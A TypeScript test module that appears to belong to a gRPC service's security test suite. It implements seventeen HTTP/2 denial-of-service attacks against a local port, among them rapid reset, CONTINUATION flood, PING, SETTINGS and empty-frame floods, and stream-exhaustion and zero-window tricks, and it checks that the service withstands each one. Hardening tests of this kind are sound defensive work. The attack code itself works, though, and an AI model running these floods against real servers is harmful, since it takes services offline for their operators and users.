/** Attacks by HTTP/2 frames. */
import { connect } from "node:http2";
import { setTimeout as sleep } from "node:timers/promises";
import { type Attack, amount, didHappen, isFull } from "../support/attack.js";
import { Attacker, eventually, gather, leaveAll, Tally } from "../support/attacker.js";
import {
  CONTINUATION,
  callHeaders,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
  headerBlock,
  INITIAL_WINDOW_SIZE,
  PING,
  RST_STREAM,
  settings,
  uint32,
  WINDOW_UPDATE,
} from "../support/http2-frames.js";

const PUSH = "/stats.v1.StatsService/Push";
const PUSH_BATCH = "/stats.v1.StatsService/PushBatch";
const LIST = "/grpc.health.v1.Health/List";
const WATCH = "/grpc.health.v1.Health/Watch";
const CANCEL = 8;
const MIB = 1024 * 1024;
/** Longer than any time-out of the service under attack, in milliseconds. */
const PATIENCE_MS = 15_000;
const BATCH = 100;
/** A gRPC message of 200 bytes, but for its end. */
const HALF_A_MESSAGE = Buffer.concat([Buffer.from([0, 0, 0, 0, 200]), Buffer.alloc(100)]);
/** How long streams are held open, in milliseconds. */
const HOLD_MS = isFull ? PATIENCE_MS : 1_500;
/** Fewer than a session may have. */
const STREAMS_OF_A_SESSION = 100;

interface FloodOptions {
  /** Default: false. */
  readonly readsNothing?: boolean;
  /** What is to be seen before the attacker leaves, however busy the machine. Default: half a second is enough. */
  readonly until?: (tally: Tally) => boolean;
}

/** Sends what `bytesOf` makes of each n up to `count`, on as many sessions as the service makes necessary. */
async function flood(
  port: number,
  count: number,
  bytesOf: (n: number) => Buffer,
  { readsNothing = false, until }: FloodOptions = {},
): Promise<Tally> {
  const tally = new Tally();
  let attacker: Attacker | undefined;
  // Stream ids begin anew with each session.
  let first = 0;
  for (let n = 0; n < count; n += BATCH) {
    if (attacker?.isOpen !== true) {
      await attacker?.leave();
      attacker = await Attacker.openHttp2(port, tally, settings());
      tally.add("session");
      first = n;
      if (readsNothing) {
        attacker.socket.pause();
      }
    }
    await attacker.send(Buffer.concat(Array.from({ length: BATCH }, (_, i) => bytesOf(n - first + i))));
  }
  attacker?.socket.resume();
  await attacker?.send(frame(PING, 0, 0, Buffer.alloc(8)));
  if (until === undefined) {
    await attacker?.closedWithin(500);
  } else {
    await eventually(() => until(tally), PATIENCE_MS);
  }
  await attacker?.leave();
  return tally;
}

function streamId(n: number): number {
  return 2 * n + 1;
}

const resets = amount(10_000, 100_000);

const rapidReset: Attack = {
  name: "rapid reset (CVE-2023-44487)",
  tried: `${resets} calls that are reset at once`,
  async run(port) {
    const hasEnded = (tally: Tally) => tally.of("GOAWAY 2") + tally.of("GOAWAY 11") > 0;
    const callAndReset = (n: number) =>
      Buffer.concat([
        callHeaders(streamId(n), PUSH, "application/grpc"),
        frame(RST_STREAM, 0, streamId(n), uint32(CANCEL)),
      ]);
    const tally = await flood(port, resets, callAndReset, { until: hasEnded });
    didHappen(hasEnded(tally), "a GOAWAY");
    return tally.toString();
  },
};

/** Of RFC 9113, section 7, and one that is not. */
const RESET_CODES = Array.from({ length: 15 }, (_, code) => code);

const resetsOfEachKind: Attack = {
  name: "resets in the same breath as the call",
  tried: `a call for each lane, with and without "expect", reset by each of ${RESET_CODES.length} codes`,
  async run(port) {
    const tally = new Tally();
    for (const code of RESET_CODES) {
      for (const [path, more] of [PUSH, WATCH].flatMap((each) => [
        [each, {}] as const,
        [each, { expect: "100-continue" }] as const,
      ])) {
        const attacker = await Attacker.openHttp2(port, tally, settings());
        const call = callHeaders(1, path, "application/grpc", END_HEADERS, more);
        await attacker.send(Buffer.concat([call, frame(RST_STREAM, 0, 1, uint32(code))]));
        await attacker.send(frame(PING, 0, 0, Buffer.alloc(8)));
        await attacker.leave();
      }
    }
    return "took no notice";
  },
};

const provoked = amount(10_000, 100_000);

const provokedResets: Attack = {
  name: "resets that the service is made to send (CVE-2025-8671)",
  onlyInFull: true,
  tried: `${provoked} calls with a WINDOW_UPDATE of 0`,
  async run(port) {
    const tally = await flood(port, provoked, (n) =>
      Buffer.concat([
        callHeaders(streamId(n), PUSH, "application/grpc"),
        frame(WINDOW_UPDATE, 0, streamId(n), uint32(0)),
      ]),
    );
    return tally.toString();
  },
};

const oversized = amount(200, 2000);

const oversizedFrames: Attack = {
  name: "oversized frames",
  tried: `${oversized} sessions with a DATA frame of 16 MiB`,
  async run(port) {
    const tally = new Tally();
    const attackers = await gather(oversized, () => Attacker.openHttp2(port, tally, settings()));
    for (const attacker of attackers) {
      await attacker.send(callHeaders(1, PUSH, "application/grpc"));
      await attacker.send(frame(DATA, 0, 1, Buffer.alloc(64 * 1024), 2 ** 24 - 1));
    }
    await eventually(() => tally.of("GOAWAY 6") === oversized, PATIENCE_MS);
    await leaveAll(attackers);
    didHappen(tally.of("GOAWAY 6") > 0, "the end of each session");
    return tally.toString();
  },
};

const continuations = amount(10, 100);

const continuationFlood: Attack = {
  name: "CONTINUATION flood (CVE-2024-27983)",
  onlyInFull: true,
  tried: `${continuations} sessions, each with a header of up to 16 MiB in frames of 16 KiB`,
  async run(port) {
    const tally = new Tally();
    const piece = headerBlock({ "x-filler": "a".repeat(16_000) });
    for (let n = 0; n < continuations; n++) {
      const attacker = await Attacker.openHttp2(port, tally, settings());
      await attacker.send(callHeaders(1, PUSH, "application/grpc", 0));
      for (let sent = 0; sent < 16 * MIB && attacker.isOpen; sent += piece.length) {
        await attacker.send(frame(CONTINUATION, 0, 1, piece));
      }
      await attacker.closedWithin(PATIENCE_MS);
      await attacker.leave();
    }
    didHappen(tally.of("still open") === 0, "the end of each session");
    return tally.toString();
  },
};

const brokenContinuations = amount(500, 5000);

const brokenContinuation: Attack = {
  name: "connections cut in the middle of a header (CVE-2024-27983)",
  onlyInFull: true,
  tried: `${brokenContinuations} sessions that are reset behind half a header`,
  async run(port) {
    const tally = new Tally();
    for (let n = 0; n < brokenContinuations; n += BATCH) {
      const attackers = await gather(BATCH, () => Attacker.openHttp2(port, tally, settings()));
      await Promise.all(
        attackers.map(async (attacker) => {
          await attacker.send(callHeaders(1, PUSH, "application/grpc", 0));
          await attacker.send(frame(CONTINUATION, 0, 1, headerBlock({ "x-a": "b" })));
        }),
      );
      await leaveAll(attackers);
    }
    return "took no notice";
  },
};

const hugeHeaderCalls = amount(2_000, 20_000);

const hugeHeaders: Attack = {
  name: "huge headers over HTTP/2",
  onlyInFull: true,
  tried: `${hugeHeaderCalls} calls with 32 KiB of header`,
  async run(port) {
    const half = headerBlock({ "x-filler": "a".repeat(16_000) });
    const tally = await flood(port, hugeHeaderCalls, (n) =>
      Buffer.concat([
        callHeaders(streamId(n), PUSH, "application/grpc", 0),
        frame(CONTINUATION, 0, streamId(n), half),
        frame(CONTINUATION, END_HEADERS, streamId(n), half),
      ]),
    );
    return tally.toString();
  },
};

/** Sessions whose streams stay open, for as long as the service lets them; returns what it did. */
async function holdStreams(
  port: number,
  sessions: number,
  bytesOf: (n: number) => Buffer,
  opening = settings(),
) {
  const tally = new Tally();
  const attackers = await gather(sessions, () => Attacker.openHttp2(port, tally, opening));
  for (const attacker of attackers) {
    for (let n = 0; n < STREAMS_OF_A_SESSION; n += BATCH) {
      await attacker.send(Buffer.concat(Array.from({ length: BATCH }, (_, i) => bytesOf(n + i))));
    }
  }
  await sleep(HOLD_MS);
  await leaveAll(attackers);
  return tally.toString();
}

const endlessSessions = amount(50, 200);

const endlessStreams: Attack = {
  name: "streams that never end",
  tried: `${endlessSessions} sessions with ${STREAMS_OF_A_SESSION} calls each that send half a message`,
  run: (port) =>
    holdStreams(port, endlessSessions, (n) =>
      Buffer.concat([
        callHeaders(streamId(n), PUSH, "application/grpc"),
        frame(DATA, 0, streamId(n), HALF_A_MESSAGE),
      ]),
    ),
};

const batchSessions = amount(10, 100);
/** As many events without fields as fit into a message. Decoded, each takes fifty times its two bytes. */
const EMPTY_EVENTS = Buffer.from("0a00".repeat(MIB / 2), "hex");
const BATCH_OF_EMPTY_EVENTS = Buffer.concat([Buffer.from([0]), uint32(EMPTY_EVENTS.length), EMPTY_EVENTS]);

const endlessBatches: Attack = {
  name: "batches that are whole and never end",
  tried: `${batchSessions} sessions, each with a message of ${MIB / 2} empty events and no end`,
  async run(port) {
    const tally = new Tally();
    // By Node's client, which keeps to the windows that the service opens as it reads.
    const sessions = Array.from({ length: batchSessions }, () => connect(`http://127.0.0.1:${port}`));
    for (const [n, session] of sessions.entries()) {
      session.on("error", () => {});
      // Half of them by gRPC-Web, which the fast lane does not speak.
      const type = n % 2 === 0 ? "application/grpc" : "application/grpc-web";
      const stream = session.request({ ":method": "POST", ":path": PUSH_BATCH, "content-type": type });
      stream.on("error", () => {}).once("response", () => tally.add("answer"));
      stream.write(BATCH_OF_EMPTY_EVENTS);
      await sleep(10);
    }
    await sleep(HOLD_MS);
    for (const session of sessions) {
      session.destroy();
    }
    didHappen(tally.of("answer") < batchSessions, "the wait for an end");
    return tally.toString();
  },
};

const watchingSessions = amount(20, 100);

const watchers: Attack = {
  name: "many watchers",
  tried: `${watchingSessions} sessions with ${STREAMS_OF_A_SESSION} calls of Health.Watch each`,
  run: (port) =>
    holdStreams(port, watchingSessions, (n) =>
      Buffer.concat([
        callHeaders(streamId(n), WATCH, "application/grpc"),
        frame(DATA, END_STREAM, streamId(n), Buffer.alloc(5)),
      ]),
    ),
};

const deafSessions = amount(20, 100);

const deafCallers: Attack = {
  name: "answers that are never read",
  tried: `${deafSessions} sessions with a window of 0 and ${STREAMS_OF_A_SESSION} calls each`,
  run: (port) =>
    holdStreams(
      port,
      deafSessions,
      (n) =>
        Buffer.concat([
          callHeaders(streamId(n), LIST, "application/grpc"),
          frame(DATA, END_STREAM, streamId(n), Buffer.alloc(5)),
        ]),
      settings([INITIAL_WINDOW_SIZE, 0]),
    ),
};

const pings = amount(100_000, 1_000_000);

const pingFlood: Attack = {
  name: "PING flood (CVE-2019-9512)",
  onlyInFull: true,
  tried: `${pings} PINGs whose answers are not read`,
  async run(port) {
    const ping = frame(PING, 0, 0, Buffer.alloc(8));
    return String(await flood(port, pings, () => ping, { readsNothing: true }));
  },
};

const settingsFrames = amount(100_000, 1_000_000);

const settingsFlood: Attack = {
  name: "SETTINGS flood (CVE-2019-9515)",
  onlyInFull: true,
  tried: `${settingsFrames} SETTINGS whose answers are not read`,
  async run(port) {
    const one = settings([INITIAL_WINDOW_SIZE, 1000]);
    return String(await flood(port, settingsFrames, () => one, { readsNothing: true }));
  },
};

const emptyFrames = amount(100_000, 1_000_000);

const emptyFrameFlood: Attack = {
  name: "empty frames (CVE-2019-9518)",
  onlyInFull: true,
  tried: `${emptyFrames} DATA frames of no bytes on one stream`,
  async run(port) {
    const tally = await flood(port, emptyFrames, (n) =>
      n === 0 ? callHeaders(1, PUSH, "application/grpc") : frame(DATA, 0, 1),
    );
    return tally.toString();
  },
};

const tooMany = amount(5_000, 50_000);

const tooManyStreams: Attack = {
  name: "more streams than are allowed",
  onlyInFull: true,
  tried: `${tooMany} calls on one session, all left open`,
  async run(port) {
    const hasRefused = (tally: Tally) => tally.of("RST_STREAM 7") > 0;
    const call = (n: number) => callHeaders(streamId(n), PUSH, "application/grpc");
    const tally = await flood(port, tooMany, call, { until: hasRefused });
    didHappen(hasRefused(tally), "the refusal of a stream");
    return tally.toString();
  },
};

const malformed = amount(2_000, 20_000);

const malformedCalls: Attack = {
  name: "malformed messages",
  onlyInFull: true,
  tried: `${malformed} calls that are answered with an error`,
  async run(port) {
    const tally = new Tally();
    const attackers = await gather(10, () => Attacker.openHttp2(port, tally, settings()));
    for (let n = 0; n < malformed / attackers.length; n++) {
      for (const attacker of attackers) {
        const call = callHeaders(streamId(n), PUSH, "application/grpc");
        await attacker.send(
          Buffer.concat([call, frame(DATA, END_STREAM, streamId(n), Buffer.alloc(5, 0xff))]),
        );
      }
    }
    await sleep(500);
    await leaveAll(attackers);
    return tally.toString();
  },
};

const wrongFrames = amount(10_000, 100_000);

const brokenStreams: Attack = {
  name: "frames that break the protocol",
  onlyInFull: true,
  tried: `${wrongFrames} HEADERS with header fields that are not allowed`,
  async run(port) {
    const tally = await flood(port, wrongFrames, (n) =>
      frame(HEADERS, END_HEADERS | END_STREAM, streamId(n), headerBlock({ Connection: "x", ":x": "y" })),
    );
    return tally.toString();
  },
};

export const http2Attacks: readonly Attack[] = [
  rapidReset,
  resetsOfEachKind,
  provokedResets,
  oversizedFrames,
  continuationFlood,
  brokenContinuation,
  hugeHeaders,
  endlessStreams,
  endlessBatches,
  tooManyStreams,
  malformedCalls,
  watchers,
  deafCallers,
  pingFlood,
  settingsFlood,
  emptyFrameFlood,
  brokenStreams,
];
